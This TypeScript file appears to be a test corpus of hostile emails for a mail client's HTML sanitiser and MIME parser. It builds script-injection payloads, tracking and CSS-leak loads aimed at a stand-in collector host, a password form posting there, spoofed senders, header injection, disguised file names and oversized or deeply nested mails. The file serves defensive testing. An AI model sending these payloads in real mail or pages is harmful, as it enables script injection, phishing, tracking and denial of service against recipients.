import { type BuiltPart, buildMail, filePart, type MailFacts, multipart, textPart } from './buildMail.ts';

/** A mail made to harm its readers, or that programs read wrongly. */
export interface HostileMail {
  name: string;
  build: () => Buffer;
  /** What a person must be able to read of it. */
  reads: RegExp;
  /** Whether its HTML is dangerous before it is sanitised. */
  isDangerous?: true;
  /** It is built to take long, or much memory. */
  isLarge?: true;
}

const greeting = 'Liebe Grüße aus dem Orchester';
const reads = /Liebe Grüße aus dem Orchester/;
const collector = 'https://sammler.example/b.gif';

/** A mail with HTML around a text that must stay readable. */
function html(name: string, markup: string, facts?: MailFacts): HostileMail {
  const page = `<html><body><p>${greeting}</p>${markup}</body></html>`;
  return { name, reads, isDangerous: true, build: () => buildMail(textPart(page, 'text/html'), facts) };
}

function mail(
  name: string,
  part: () => BuiltPart | string,
  facts: MailFacts & { reads?: RegExp } = {},
): HostileMail {
  return { name, reads: facts.reads ?? reads, build: () => buildMail(part(), facts) };
}

const scripts = [
  html('a script', '<script>alert(1)</script>'),
  html('a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  html('a script in SVG', '<svg><script>alert(1)</script></svg>'),
  html('an SVG that runs when it is shown', '<svg onload="alert(1)"><animate onbegin="alert(1)"/></svg>'),
  html('a picture that runs without its source', '<img src="x" onerror="alert(1)">'),
  html('an event handler after a slash', '<img/src="x"/onerror=alert(1)>'),
  html('a link with a script', '<a href="javascript:alert(1)">hier</a>'),
  html('a link with a script in entities', '<a href="&#106;ava&#9;script&colon;alert(1)">hier</a>'),
  html('a link with data', '<a href="data:text/html;base64,PHNjcmlwdD4=">hier</a>'),
  html('a frame', '<iframe src="https://sammler.example/"></iframe>'),
  html('a frame with a page inside', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  html('an object', '<object data="https://sammler.example/x.swf"></object><embed src="x.swf">'),
  html('a form that asks for a password', `<form action="${collector}"><input name="kennwort"></form>`),
  html('a button with an address of its own', `<button formaction="${collector}">weiter</button>`),
  html('a page that leads away', `<meta http-equiv="refresh" content="0;url=${collector}">`),
  html('a base for all links', '<base href="https://sammler.example/"><a href="rechnung">Rechnung</a>'),
  html(
    'math that hides a script',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  html(
    'a noscript that ends early',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  html('a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'),
  html('a template', '<template><img src=x onerror=alert(1)></template>'),
  html('CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'),
  html('a text area that ends early', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'),
];

const loading = [
  html('a tracking picture', `<img src="${collector}" width="1" height="1">`),
  html('pictures by size', `<img srcset="${collector} 2x" src="${collector}">`),
  html(
    'a background',
    `<table background="${collector}"><tr><td background="${collector}">x</td></tr></table>`,
  ),
  html('a style with a background', `<div style="background:url(${collector})">x</div>`),
  html('a style with escapes', `<div style="background:\\75rl(${collector})">x</div>`),
  html('a style with a comment in url', `<div style="background-image:u/**/rl(${collector})">x</div>`),
  html('a set of pictures in a style', `<div style="background-image:image-set('${collector}' 1x)">x</div>`),
  html(
    'a style sheet that reads what is typed',
    `<style>input[value^=a]{background:url(${collector})}</style><input value="a">`,
  ),
  html('an imported style sheet', `<style>@import url(${collector});</style>`),
  html('a linked style sheet', `<link rel="stylesheet" href="${collector}">`),
  html(
    'a font that loads',
    `<style>@font-face{font-family:x;src:url(${collector})}</style><p style="font-family:x">x</p>`,
  ),
  html('a behaviour', '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</div>'),
  html('an expression', '<div style="width:expression(alert(1))">x</div>'),
  html(
    'a layer over everything',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Bitte anmelden</div>',
  ),
  html(
    'a video and a sound',
    `<video src="${collector}" poster="${collector}" autoplay></video><audio src="${collector}">`,
  ),
  html(
    'a picture map and a ping',
    `<a href="https://schule.example/" ping="${collector}">x</a><map><area href="javascript:alert(1)"></map>`,
  ),
  html(
    'names of the page',
    '<img name="body" id="location" src="x"><form id="document"><input name="cookie"></form>',
  ),
];

const pictures: HostileMail[] = [
  html('a cid that leaves its attribute', '<img src=\'cid:x" onerror="alert(1)\'>'),
  html('a cid that is a path', '<img src="cid:../../../../api/users">'),
  mail('an attachment that is a page', () =>
    multipart('related', [
      textPart(`<p>${greeting}</p><img src="cid:bild">`, 'text/html'),
      filePart('<script>alert(1)</script>', 'text/html; name="bild.png"', {
        disposition: 'inline',
        headers: ['Content-ID: <bild>'],
      }),
    ]),
  ),
  mail('a file name that is a path and turns its direction', () =>
    multipart('mixed', [
      textPart(greeting),
      filePart('x', 'application/x-msdownload', {
        disposition: 'attachment; filename="../../etc/rechnung\u202Efdp.exe"',
      }),
    ]),
  ),
];

const latin = (text: string) => Buffer.from(text, 'latin1');

const charsets: HostileMail[] = [
  mail('ISO-8859-1', () => textPart(latin(greeting), 'text/plain', 'iso-8859-1')),
  mail(
    'ISO-8859-15 with a euro sign',
    () => textPart(latin(`${greeting}: 20 \xa4`), 'text/plain', 'iso-8859-15'),
    {
      reads: /Liebe Grüße aus dem Orchester: 20 €/,
    },
  ),
  mail('Windows-1252 that calls itself Latin 1', () =>
    textPart(
      Buffer.concat([latin(greeting), Buffer.from([0x20, 0x84, 0x61, 0x93])]),
      'text/plain',
      'iso-8859-1',
    ),
  ),
  mail('UTF-7 that hides a script', () =>
    textPart(
      '<p>Liebe Gr+APwA3w-e aus dem Orchester</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      'text/html',
      'utf-7',
    ),
  ),
  mail('a charset that nobody knows', () => textPart('Liebe Gruesse', 'text/plain', 'x-klingonisch'), {
    reads: /Liebe Gruesse/,
  }),
  mail('UTF-8 with broken bytes and a null', () =>
    textPart(Buffer.concat([Buffer.from(greeting), Buffer.from([0xff, 0xc3, 0x00, 0x28])])),
  ),
];

function nested(depth: number): BuiltPart {
  let part = textPart(greeting);
  for (let level = 0; level < depth; level += 1) part = multipart('mixed', [part], `g${level}`);
  return part;
}

function forwarded(depth: number): Buffer {
  let raw = buildMail(textPart(greeting));
  for (let level = 0; level < depth; level += 1)
    raw = buildMail({ headers: ['Content-Type: message/rfc822'], content: raw });
  return raw;
}

const encryptedFacts = { reads: /verschlüsselt/ };

const structures: HostileMail[] = [
  { name: 'eight forwarded mails in each other', reads: /./, build: () => forwarded(8) },
  mail('a boundary that never ends', () => ({
    headers: ['Content-Type: multipart/mixed; boundary="nie"'],
    content: `--nie\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${greeting}\r\n`,
  })),
  mail('base64 that is none', () => ({
    headers: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
    content: `${Buffer.from(greeting).toString('base64')}\r\n!!!***???`,
  })),
  mail('winmail.dat', () =>
    multipart('mixed', [
      textPart(greeting),
      filePart(Buffer.from([0x78, 0x9f, 0x3e, 0x22]), 'application/ms-tnef'),
    ]),
  ),
  mail('a calendar invitation', () =>
    multipart('alternative', [
      textPart(greeting),
      textPart('BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR', 'text/calendar; method=REQUEST'),
    ]),
  ),
  mail(
    'S/MIME',
    () => filePart('geheim', 'application/pkcs7-mime; smime-type=enveloped-data'),
    encryptedFacts,
  ),
  mail(
    'PGP',
    () =>
      multipart('encrypted; protocol="application/pgp-encrypted"', [
        filePart('Version: 1', 'application/pgp-encrypted'),
        filePart('-----BEGIN PGP MESSAGE-----', 'application/octet-stream; name="encrypted.asc"'),
      ]),
    encryptedFacts,
  ),
  mail('a sender who calls himself somebody else', () => greeting, {
    from: '"leitung@schule.example" <fremd@sammler.example>',
  }),
  mail('headers in a subject', () => greeting, {
    subject: '=?utf-8?Q?Rechnung=0D=0ABcc:_alle@schule.example?=',
  }),
];

const large: HostileMail[] = [
  {
    name: '10,000 parts',
    reads,
    isLarge: true,
    build: () =>
      buildMail(
        multipart('mixed', [
          textPart(greeting),
          ...Array.from({ length: 10_000 }, () => filePart('x', 'image/png')),
        ]),
      ),
  },
  {
    name: '2,000 parts in each other',
    reads: /nicht ganz lesen ließ/,
    isLarge: true,
    build: () => buildMail(nested(2000)),
  },
  {
    name: '50 MB',
    reads,
    isLarge: true,
    build: () =>
      buildMail(
        multipart('mixed', [textPart(greeting), filePart(Buffer.alloc(36_000_000, 7), 'application/zip')]),
      ),
  },
  {
    name: '200,000 elements in each other',
    reads,
    isLarge: true,
    build: () => buildMail(textPart(`<p>${greeting}</p>${'<div><b>'.repeat(100_000)}`, 'text/html')),
  },
];

/** The corpus. */
export const hostileMails: readonly HostileMail[] = [
  ...scripts,
  ...loading,
  ...pictures,
  ...charsets,
  ...structures,
  ...large,
];
